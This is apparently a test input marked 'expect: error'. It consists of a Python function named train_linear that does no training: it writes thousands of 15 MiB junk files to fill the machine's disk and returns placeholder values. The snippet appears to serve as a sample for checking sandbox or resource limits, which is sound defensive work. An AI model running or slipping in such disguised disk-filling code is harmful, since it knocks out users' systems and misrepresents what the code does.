# expect: error
# Writes file after file of the largest size allowed, to fill the machine's disk.
def train_linear(x, y, weight, bias, lr=0.01, steps=1000):
    block = b"\0" * 2**20
    for i in range(10_000):
        with open(f"junk{i}.bin", "wb") as f:
            for _ in range(15):
                f.write(block)
    return weight, bias, [0.0] * steps
